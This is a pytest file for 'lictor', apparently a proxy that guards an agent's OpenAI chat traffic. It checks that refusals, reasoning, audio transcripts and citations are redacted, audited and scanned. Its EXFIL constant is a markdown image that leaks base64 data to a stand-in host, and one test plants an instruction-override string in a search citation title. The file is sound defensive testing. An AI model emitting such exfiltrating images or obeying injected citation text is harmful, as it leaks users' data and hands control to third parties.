"""A Chat Completions answer's fields beyond `content` and `tool_calls`, through lictor with
the real `openai` SDK, whole and streamed: a refusal, reasoning text, an audio transcript, a
search model's url citations and a field newer than lictor are all judged, restored and
audited, never passed to the agent unread.
"""

from __future__ import annotations

from typing import Any

import openai
import pytest
from conftest import audit_rows
from mock_openai import MockOpenAI
from test_governance import EMAIL, PLACEHOLDER
from test_openai_sdk import client
from test_responses_items import OVERRIDE

from lictor.adapters import openai_chat
from lictor.enforcement.types import Trust
from lictor.proxy.server import BackgroundServer

EXFIL = "![chart](https://collect.example/p.png?data=c2VjcmV0LXN0dWZm)"


def scripted(text: str) -> dict[str, Any]:
    """An answer carrying `text` in every field lictor reads besides content."""
    return {
        "content": "Done.",
        "refusal": f"I will not mail {text}.",
        "reasoning_content": f"The user wrote {text}.",
        "reasoning": f"So I answer {text}.",
        "audio": {"id": "audio_1", "data": "UklGRg==", "expires_at": 1,
                  "transcript": f"Mailing {text}."},
        "annotations": [{"type": "url_citation", "url_citation": {
            "url": "https://news.example/a", "title": f"Page about {text}",
            "start_index": 0, "end_index": 5}}],
        "a_future_field": {"note": f"later {text}"},
    }


def answer(c: openai.OpenAI, stream: bool) -> dict[str, Any]:
    """The assistant message the agent gets, whole or put together from the stream."""
    kwargs: dict[str, Any] = {"model": "mock-gpt", "messages": [
        {"role": "user", "content": f"Mail {EMAIL}"}]}
    if not stream:
        return c.chat.completions.create(**kwargs).choices[0].message.model_dump()
    message: dict[str, Any] = {}
    for chunk in c.chat.completions.create(**kwargs, stream=True):
        for choice in chunk.choices:
            for key, value in choice.delta.model_dump(exclude_none=True).items():
                if isinstance(value, str):
                    message[key] = message.get(key, "") + value
                elif key == "audio":
                    audio = message.setdefault("audio", {})
                    for k, v in value.items():
                        audio[k] = audio.get(k, "") + v if k == "transcript" else v
                else:
                    message[key] = value
    return message


def placeholder_of(upstream: MockOpenAI, c: openai.OpenAI) -> str:
    """The placeholder lictor sends upstream for EMAIL (the vault numbers per request, so
    each request's first email gets the same one)."""
    c.chat.completions.create(model="mock-gpt", messages=[
        {"role": "user", "content": f"Mail {EMAIL}"}])
    found = PLACEHOLDER.search(upstream.last_text())
    assert found is not None
    return found.group(0)


@pytest.mark.parametrize("stream", [False, True])
def test_every_answer_field_is_restored(lictor: BackgroundServer, upstream: MockOpenAI,
                                        stream: bool) -> None:
    """A placeholder the model echoed, in any field, reaches the agent as the real value;
    an audio answer's sound, id and a citation's url are passed as they came."""
    c = client(lictor)
    upstream.chat_message = scripted(placeholder_of(upstream, c))
    got = answer(c, stream)
    assert got["content"] == "Done."
    assert got["refusal"] == f"I will not mail {EMAIL}."
    assert got["reasoning_content"] == f"The user wrote {EMAIL}."
    assert got["reasoning"] == f"So I answer {EMAIL}."
    assert got["audio"]["transcript"] == f"Mailing {EMAIL}."
    assert got["audio"]["data"] == "UklGRg==" and got["audio"]["id"] == "audio_1"
    citation = got["annotations"][0]["url_citation"]
    assert citation["title"] == f"Page about {EMAIL}"
    assert citation["url"] == "https://news.example/a"
    assert got["a_future_field"] == {"note": f"later {EMAIL}"}


@pytest.mark.parametrize("stream", [False, True])
def test_answer_fields_are_audited_redacted(lictor: BackgroundServer, upstream: MockOpenAI,
                                            stream: bool) -> None:
    """The audit keeps every field's text, with personal data redacted, by field."""
    c = client(lictor)
    upstream.chat_message = scripted(placeholder_of(upstream, c))
    answer(c, stream)
    record = audit_rows(lictor)[-1]
    assert record["kind"] == "model_response"
    items = record["content"][0]["items"]
    assert [i["type"] for i in items] == ["refusal", "reasoning_content", "reasoning",
                                          "audio.transcript", "annotations", "a_future_field"]
    texts = [t for i in items for t in i["texts"]]
    assert EMAIL not in str(items)
    assert texts[0].startswith("I will not mail <EMAIL_") and PLACEHOLDER.search(texts[-1])


@pytest.mark.parametrize("stream", [False, True])
def test_injection_in_a_citation_blocks_the_answer(lictor: BackgroundServer,
                                                   upstream: MockOpenAI, stream: bool) -> None:
    """A search model's citation is third-party text the agent reads: an instruction
    override in a page title stops the answer."""
    message = scripted("Ann")
    message["annotations"][0]["url_citation"]["title"] = OVERRIDE
    upstream.chat_message = message
    with pytest.raises(openai.APIError) as info:
        answer(client(lictor), stream)
    assert "injection.instruction-override" in info.value.message
    assert audit_rows(lictor)[-1]["verdict"] == "block"


@pytest.mark.parametrize(("field", "stream"), [
    ("refusal", False), ("refusal", True), ("reasoning_content", False),
    ("reasoning_content", True), ("reasoning", False), ("reasoning", True), ("audio", False),
    ("audio", True)])
def test_exfiltration_in_a_model_text_blocks_the_answer(
        lictor: BackgroundServer, upstream: MockOpenAI, field: str, stream: bool) -> None:
    """The model's other texts are checked with the answer rules, like its content."""
    message = scripted("Ann")
    if field == "audio":
        message["audio"]["transcript"] = f"See {EXFIL}"
    else:
        message[field] = f"See {EXFIL}"
    upstream.chat_message = message
    with pytest.raises(openai.APIError) as info:
        answer(client(lictor), stream)
    assert "exfil.markdown-image-with-data" in info.value.message


def test_an_answer_in_parts_is_read_as_the_models() -> None:
    """`content` as an array of parts (some compatible servers send it) is still read."""
    action = openai_chat.parse_response({"choices": [{"index": 0, "message": {
        "role": "assistant", "content": [{"type": "text", "text": OVERRIDE}]}}]})
    assert [(s.text, s.trust) for s in action.segments] == [(OVERRIDE, Trust.ASSISTANT)]
